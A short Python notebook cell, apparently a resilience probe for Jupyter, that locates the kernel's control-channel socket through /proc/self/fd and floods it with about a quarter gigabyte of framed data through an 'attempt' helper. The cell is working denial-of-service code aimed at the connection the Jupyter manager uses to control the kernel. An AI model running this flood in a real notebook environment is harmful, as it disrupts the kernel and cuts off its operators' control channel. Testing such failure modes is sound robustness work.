# A quarter of a gigabyte on the connection that Jupyter's manager would hold to the control channel.
# %% q1
import os, socket
block = b"x" * 60_000_000
kernel_app = __import__("ipykernel.kernelapp", fromlist=["IPKernelApp"]).IPKernelApp.instance()
def find_lines():
    wanted = f"-{kernel_app.control_port}"
    for number in os.listdir("/proc/self/fd"):
        try:
            line = socket.socket(fileno=os.dup(int(number)))
            path = line.getsockname()
            line.getpeername()
        except (OSError, ValueError):
            continue
        if isinstance(path, str) and path.endswith(wanted):
            yield line
def flood():
    line = next(find_lines())
    line.setblocking(True)
    for _ in range(4):
        line.sendall(bytes([2]) + len(block).to_bytes(8, "big") + block)
attempt("a line that nobody reads", flood)
def double(x):
    return x
